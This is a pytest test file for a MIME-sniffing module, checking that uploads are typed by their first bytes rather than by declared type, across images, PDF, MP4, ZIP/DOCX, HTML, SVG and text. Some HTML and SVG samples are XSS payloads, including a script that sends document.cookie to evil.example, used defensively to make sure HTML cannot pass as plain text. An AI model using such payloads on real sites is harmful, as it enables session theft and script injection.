"""A file's type comes from its first bytes, never from its name or its declared type alone."""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib

import pytest

from shared.media.detect import (
    OCTET_STREAM,
    SNIFF_BYTES,
    detect_mime,
    extension_for,
    file_type,
    normalise,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def png_1x1() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", pixels)
            + chunk(b"IEND", b""))


JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        b"\xff\xdb\x00\x43\x00" + bytes(64) + b"\xff\xd9")
PNG = png_1x1()
GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00"
       b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
# No colour table and no extension: an image descriptor right after the screen descriptor.
GIF87 = (b"GIF87a\x01\x00\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00"
         b"\x02\x02D\x01\x00;")
PDF = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
       b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
MP4 = (struct.pack(">I", 32) + b"ftypisom" + struct.pack(">I", 0x200) + b"isomiso2avc1mp41"
       + struct.pack(">I", 8) + b"free" + struct.pack(">I", 8) + b"mdat")
WEBP = (b"RIFF\x1a\x00\x00\x00WEBPVP8L\r\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88"
        b"\xfe\x07\x00")


def zip_of(entries: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in entries.items():
            archive.writestr(name, text)
    return buffer.getvalue()


PLAIN_ZIP = zip_of({"notes/readme.txt": "hello", "data.csv": "a,b\n1,2\n"})
WORD_DOCX = zip_of({
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
                           '.org/package/2006/content-types"/>',
    "_rels/.rels": "<Relationships/>",
    "word/document.xml": "<w:document/>",
})


# --- binary formats -----------------------------------------------------------------------

@pytest.mark.parametrize(
    ("sample", "expected"),
    [
        (JPEG, "image/jpeg"),
        (PNG, "image/png"),
        (GIF, "image/gif"),
        (GIF87, "image/gif"),
        (PDF, "application/pdf"),
        (MP4, "video/mp4"),
        (WEBP, "image/webp"),
    ],
)
def test_magic_numbers(sample: bytes, expected: str) -> None:
    assert detect_mime(sample) == expected
    assert detect_mime(sample, OCTET_STREAM) == expected


@pytest.mark.parametrize("declared", ["text/plain", "image/png", "application/pdf"])
def test_declared_type_does_not_override_a_clear_magic_number(declared: str) -> None:
    assert detect_mime(JPEG, declared) == "image/jpeg"


def test_a_jpeg_named_pdf_is_still_a_jpeg() -> None:
    """What the client says is not what the bytes are."""
    assert detect_mime(JPEG, "application/pdf; name=invoice.pdf") == "image/jpeg"


def test_only_the_first_bytes_are_needed() -> None:
    big = PNG + bytes(4 * SNIFF_BYTES)
    assert detect_mime(big[:SNIFF_BYTES]) == "image/png"


# --- ZIP and DOCX -------------------------------------------------------------------------

def test_declared_type_settles_zip_versus_docx() -> None:
    assert detect_mime(WORD_DOCX, DOCX) == DOCX
    assert detect_mime(WORD_DOCX, "application/zip") == "application/zip"
    assert detect_mime(PLAIN_ZIP, "application/zip") == "application/zip"
    assert detect_mime(PLAIN_ZIP, "Application/ZIP; charset=binary") == "application/zip"


def test_declared_type_outside_the_candidates_is_not_taken() -> None:
    detected = detect_mime(PLAIN_ZIP, "image/png")
    assert detected != "image/png"
    assert detected == detect_mime(PLAIN_ZIP)


@pytest.mark.parametrize("declared", [None, OCTET_STREAM, "application/x-zip-compressed"])
def test_plain_zip_without_a_settling_declaration_is_a_zip(declared: str | None) -> None:
    """A ZIP holding no Office parts is not a Word document.

    With nothing to settle the ambiguity, the generic type of the signature is the honest
    answer; calling it DOCX makes a .zip from curl or Windows (x-zip-compressed) a "document"
    with a .docx name, or refuses it as a type the user never sent.
    """
    assert detect_mime(PLAIN_ZIP, declared) == "application/zip"


# --- HTML and SVG: never let them pass as plain text --------------------------------------

@pytest.mark.parametrize(
    "sample",
    [
        b"<!DOCTYPE html><html><body>hi</body></html>",
        b"<!doctype html>\n<html lang='en'>",
        b"<html><head><script>alert(1)</script></head></html>",
        b"<body onload=alert(1)>",
    ],
)
@pytest.mark.parametrize("declared", [None, "text/plain"])
def test_html_is_html(sample: bytes, declared: str | None) -> None:
    assert detect_mime(sample, declared) == "text/html"


@pytest.mark.parametrize(
    "sample",
    [
        b"<HTML><BODY>hi</BODY></HTML>",  # tags are case-insensitive
        b"\n<!DOCTYPE html>\n<html><body>x</body></html>",  # leading whitespace
        b"\xef\xbb\xbf<!DOCTYPE html><html>",  # UTF-8 byte order mark
        b"<script>document.location='https://evil.example/'+document.cookie</script>",
        b"<head><title>x</title></head><body>y</body>",
        b"<iframe src='https://evil.example'></iframe>",
    ],
)
def test_html_variants_browsers_render_are_not_plain_text(sample: bytes) -> None:
    """Browsers' sniffing (WHATWG MIME Sniffing, 7.1) treats all of these as HTML; declared
    text/plain they must still be recognised, or an HTML page gets past the type allowlist."""
    assert detect_mime(sample, "text/plain") == "text/html"


@pytest.mark.parametrize(
    "sample",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"></svg>',
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
        b"</svg>",
    ],
)
@pytest.mark.parametrize("declared", [None, "text/plain", "image/svg+xml"])
def test_svg_is_svg(sample: bytes, declared: str | None) -> None:
    assert detect_mime(sample, declared) == "image/svg+xml"


@pytest.mark.parametrize(
    "sample",
    [
        # Inkscape's own header
        b'<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        b"<!-- Created with Inkscape (http://www.inkscape.org/) -->\n\n"
        b'<svg\n   width="210mm"\n   height="297mm"\n   xmlns="http://www.w3.org/2000/svg">',
        # Adobe Illustrator's export
        b'<?xml version="1.0" encoding="utf-8"?>\n'
        b"<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In -->\n"
        b'<svg version="1.1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">',
        # XML declaration without a line break
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        # a self-closing root after the declaration
        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>',
    ],
)
def test_svg_exported_by_common_editors_is_svg(sample: bytes) -> None:
    """These are how most real SVG files begin; declared image/svg+xml (allowed), they must
    not be refused as application/xml."""
    assert detect_mime(sample, "image/svg+xml") == "image/svg+xml"
    assert detect_mime(sample, "text/plain") == "image/svg+xml"


# --- plain text ---------------------------------------------------------------------------

@pytest.mark.parametrize(
    "text",
    ["hello world\n", "Grüße aus Köln – 東京 🚀\r\n", "tab\tseparated\tvalues\n\fpage 2\n"],
)
def test_utf8_text_is_plain_text(text: str) -> None:
    assert detect_mime(text.encode("utf-8")) == "text/plain"
    assert detect_mime(text.encode("utf-8"), "text/plain; charset=utf-8") == "text/plain"


@pytest.mark.parametrize("character", ["é", "€", "🚀"])
def test_multibyte_character_cut_by_the_sample_end_is_still_text(character: str) -> None:
    encoded = character.encode("utf-8")
    for cut in range(1, len(encoded)):
        sample = b"x" * (SNIFF_BYTES - cut) + encoded[:cut]
        assert len(sample) == SNIFF_BYTES
        assert detect_mime(sample) == "text/plain", (character, cut)


def test_invalid_utf8_in_the_middle_is_not_text() -> None:
    assert detect_mime("café au lait".encode("latin-1") + b" " * 20) == OCTET_STREAM


@pytest.mark.parametrize("sample", [b"hello world\xff", b"\xff\xfe\xfd", b"\x80", b"ok\xc0\xaf"])
def test_bytes_that_never_occur_in_utf8_are_not_excused_as_a_cut_character(
    sample: bytes,
) -> None:
    """0xFF, a lone continuation byte or an overlong lead cannot start a multi-byte
    character, so they are no cut character: the content is not UTF-8 text."""
    assert detect_mime(sample) == OCTET_STREAM


@pytest.mark.parametrize(
    "sample",
    [b"abc\x00def", b"\x1b[31mred\x1b[0m", b"\x01\x02\x03\x04 hello", bytes(64)],
)
def test_control_bytes_are_not_text(sample: bytes) -> None:
    assert detect_mime(sample) == OCTET_STREAM


def test_binary_garbage_is_octet_stream() -> None:
    garbage = random.Random(1234).randbytes(SNIFF_BYTES)
    assert detect_mime(garbage) == OCTET_STREAM
    assert detect_mime(garbage, "text/plain") == OCTET_STREAM


def test_empty_content() -> None:
    assert detect_mime(b"") == "text/plain"
    assert detect_mime(b"", "text/html") == "text/plain"


# --- helpers ------------------------------------------------------------------------------

@pytest.mark.parametrize(
    ("raw", "expected"),
    [("Image/JPEG; charset=binary", "image/jpeg"), (" text/plain ", "text/plain"),
     (None, ""), ("", "")],
)
def test_normalise(raw: str | None, expected: str) -> None:
    assert normalise(raw) == expected


@pytest.mark.parametrize(
    ("mime", "expected"),
    [
        ("image/jpeg", "image"), ("image/svg+xml", "image"), ("video/mp4", "video"),
        ("video/quicktime", "video"), ("audio/mpeg", "audio"),
        ("application/pdf", "document"), ("application/msword", "document"),
        (DOCX, "document"), ("application/rtf", "document"), ("text/plain", "document"),
        ("text/csv", "document"),
        ("application/zip", "other"), (OCTET_STREAM, "other"), ("application/json", "other"),
    ],
)
def test_file_type(mime: str, expected: str) -> None:
    assert file_type(mime) == expected


@pytest.mark.parametrize(
    ("mime", "expected"),
    [
        ("image/jpeg", ".jpg"), ("image/png", ".png"), ("image/gif", ".gif"),
        ("application/pdf", ".pdf"), ("video/mp4", ".mp4"), ("text/plain", ".txt"),
        ("video/quicktime", ".mov"), ("audio/mpeg", ".mp3"), ("image/svg+xml", ".svg"),
        ("application/x-no-such-type", ".bin"), (OCTET_STREAM, ".bin"),
    ],
)
def test_extension_for(mime: str, expected: str) -> None:
    assert extension_for(mime) == expected


def test_detected_types_get_their_own_extension() -> None:
    for sample, extension in [(JPEG, ".jpg"), (PNG, ".png"), (PDF, ".pdf"), (MP4, ".mp4")]:
        assert extension_for(detect_mime(sample)) == extension
